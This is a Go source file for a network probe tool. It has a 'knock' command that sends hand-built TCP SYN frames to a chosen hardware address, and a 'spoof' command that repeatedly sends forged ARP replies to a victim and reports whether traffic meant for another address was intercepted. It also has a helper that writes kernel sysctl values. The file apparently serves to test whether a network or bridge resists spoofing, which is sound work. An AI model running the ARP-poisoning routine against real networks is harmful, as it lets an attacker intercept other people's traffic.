package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"time"
)

const (
	// answersWithin is how long an answer to a raw packet may take on a bridge.
	answersWithin = 2 * time.Second
	// spoofsFor bounds an attempt to be taken for somebody else; the victim has to send something meanwhile.
	spoofsFor = 10 * time.Second
	// repeatsEvery is how often a lie is told anew, since the truth is told too.
	repeatsEvery = 50 * time.Millisecond
)

// knock asks for a TCP connection in a frame made by hand, to a hardware address that need not be the one to which the
// kernel would send it, and prints syn-ack, rst or silence. To an IPv6 address it asks from its link-local one, which the
// interface need not have.
func knock(ctx context.Context, args []string, stdout io.Writer) error {
	flags := flag.NewFlagSet("knock", flag.ContinueOnError)
	at := flags.String("mac", "", "hardware address to send the frame to")
	if err := flags.Parse(args); err != nil {
		return err
	}
	mac, err := net.ParseMAC(*at)
	if err != nil || flags.NArg() != 1 {
		return errors.New("knock wants -mac MAC and one IP:PORT")
	}
	to, err := netip.ParseAddrPort(flags.Arg(0))
	if err != nil {
		return err
	}
	w, err := openWire()
	if err != nil {
		return err
	}
	defer func() { _ = w.close() }()
	from, kind, ask := netip.AddrPortFrom(w.ip, 40404), uint16(typeIPv4), synPacket
	if to.Addr().Is6() {
		from, kind, ask = netip.AddrPortFrom(linkLocal(w.mac), 40404), typeIPv6, synPacket6
		if err := w.send(mac, kind, solicitation(w.mac, to.Addr())); err != nil {
			return err
		}
	}
	if err := w.send(mac, kind, ask(from, to)); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, answersWithin)
	defer cancel()
	answer, ok, err := w.await(ctx, func(p packet) bool { return p.from == to && p.to == from })
	switch {
	case err != nil:
		return err
	case !ok:
		fmt.Fprintln(stdout, "silence")
	case answer.flags&flagRST != 0:
		fmt.Fprintln(stdout, "rst")
	default:
		fmt.Fprintln(stdout, "syn-ack")
	}
	return nil
}

// intercepted is what came of an attempt to be taken for somebody else.
type intercepted struct {
	Intercepted bool `json:"intercepted"`
	// From and To are those of the first packet that was meant for the other one.
	From string `json:"from,omitempty"`
	To   string `json:"to,omitempty"`
}

// spoof tells a victim that an address of somebody else is here, over and over, and prints as JSON whether a packet for
// that address came.
func spoof(ctx context.Context, args []string, stdout io.Writer) error {
	if len(args) != 3 {
		return errors.New("spoof wants the victim's IP and MAC, and the IP to claim")
	}
	victim, err := netip.ParseAddr(args[0])
	if err != nil {
		return err
	}
	mac, err := net.ParseMAC(args[1])
	if err != nil {
		return err
	}
	claims, err := netip.ParseAddr(args[2])
	if err != nil {
		return err
	}
	w, err := openWire()
	if err != nil {
		return err
	}
	defer func() { _ = w.close() }()
	ctx, cancel := context.WithTimeout(ctx, spoofsFor)
	defer cancel()
	lied := make(chan error, 1)
	go func() { lied <- w.lie(ctx, arpReply(w.mac, claims, mac, victim), mac) }()
	caught, ok, err := w.await(ctx, func(p packet) bool { return p.from.Addr() == victim && p.to.Addr() == claims })
	cancel()
	if err := errors.Join(err, <-lied); err != nil {
		return err
	}
	out := intercepted{Intercepted: ok}
	if ok {
		out.From, out.To = caught.from.String(), caught.to.String()
	}
	return json.NewEncoder(stdout).Encode(out)
}

// sysctl sets a parameter of the kernel: the files of /proc/sys are its names with slashes for dots.
func sysctl(args []string) error {
	if len(args) != 2 {
		return errors.New("sysctl wants a key and a value")
	}
	return os.WriteFile(filepath.Join("/proc/sys", strings.ReplaceAll(args[0], ".", "/")), []byte(args[1]), 0o600)
}

// lie sends an ARP reply until the end of ctx.
func (w *wire) lie(ctx context.Context, reply []byte, to net.HardwareAddr) error {
	again := time.NewTicker(repeatsEvery)
	defer again.Stop()
	for {
		if err := w.send(to, typeARP, reply); err != nil {
			return err
		}
		select {
		case <-again.C:
		case <-ctx.Done():
			return nil
		}
	}
}
